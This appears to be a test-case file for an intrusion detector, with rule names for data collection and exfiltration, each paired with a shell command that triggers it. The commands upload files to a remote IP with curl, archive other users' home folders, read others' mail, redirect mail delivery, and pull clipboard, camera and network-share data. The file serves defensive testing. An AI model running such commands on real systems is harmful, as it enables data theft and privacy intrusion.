## Secrets packed into an archive
mkdir -p /root/.ssh; tar cf /dev/null /root/.ssh
## Upload by a transfer tool in a container
#also Download tool in a container
#also Suspicious Process Execution
#in shop:1
curl -s -T /etc/hosts http://10.9.8.7/
## Folders of people packed into a scratch folder
tar cf /tmp/x.tar /home/ann /etc/hostname
## Archive with a password
cd /tmp; echo x > a; zip -q -P secret x.zip a
## Database dumped by a server's command
#also Shell started by a network server
server 'sqlite3 /tmp/shop.db .dump'
## Mail of others read
#setup mkdir -p /var/mail; echo x > /var/mail/ann
setpriv --reuid 1000 --clear-groups cat /var/mail/ann
## Screen, sound or clipboard recorded
#setup stubs /usr/bin/scrot
scrot /tmp/x.png
## Files gathered by their kind
find /home -name '*.pdf' -exec cp {} /tmp ';'
## Files copied from or to a removable disk
#also Program or script of a shared folder changed by hand
mkdir -p /mnt/usb; cp /etc/hosts /mnt/usb/
## Share of the network mounted by a server's command
#also Shell started by a network server
server 'mount -t nfs 10.9.8.7:/srv /mnt'
## Archive made in a hidden place
#also Folders of people packed into a scratch folder
#also Hidden file made in shared memory
tar -C /etc -czf /dev/shm/.x.tgz hostname
## Data written to a hidden file of a scratch folder
id > /tmp/.out
## Whole database dumped by hand
#setup stubs /usr/bin/pg_dump
pg_dump -f /tmp/x.sql shop
## Mailbox of another user read
#setup mkdir -p /var/mail; echo x > /var/mail/ann
cat /var/mail/ann
## Delivery of mail changed by a command
echo x@example.com > /home/ann/.forward
## Camera, microphone or screen read by a command
#setup private_dev; echo x > /dev/video0
cat /dev/video0
## Sound or screen of a session used by an untrusted program
#setup mkdir -p /run/user/1000/pulse; python3 -c 'import socket, time
#setup s = socket.socket(socket.AF_UNIX); s.bind("/run/user/1000/pulse/native"); s.listen(); time.sleep(20)' &
#setup until [ -S /run/user/1000/pulse/native ]; do sleep 0.05; done
python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect("/run/user/1000/pulse/native")'
## Clipboard or screen read by a script
#also Screen, sound or clipboard recorded
#setup stubs /usr/bin/xclip
for n in 1 2 3; do xclip -o -selection clipboard; done
## Share of Windows read with a password argument
curl -s -m 2 -u 'CORP\ann:x' smb://10.9.8.7/finance/a.xlsx
## Removable disk of a desktop read by a script of root
#setup mkdir -p /run/media/ann/USB; echo x > /run/media/ann/USB/a
cat /run/media/ann/USB/a
## Share of a desktop read by another user
#setup mkdir -p /run/user/1000/gvfs/smb; echo x > /run/user/1000/gvfs/smb/a
cat /run/user/1000/gvfs/smb/a
## Website copied by a tool
wget -q -r -T 2 -t 1 http://10.9.8.7/wiki/
## Repositories cloned one after another
#setup for name in a b c; do git init -q --bare /srv/git/$name.git; done
mkdir -p /var/tmp/g; for name in a b c; do git clone -q --mirror file:///srv/git/$name.git /var/tmp/g/$name; done
## Mailbox fetched by a command
curl -s -m 1 imap://10.9.8.7/INBOX
## Archive or copy made by an untrusted program
#also Accounts read by an untrusted program
python3 -c 'import tarfile; tarfile.open("/var/tmp/x.tgz", "w:gz").add("/etc/hostname")'
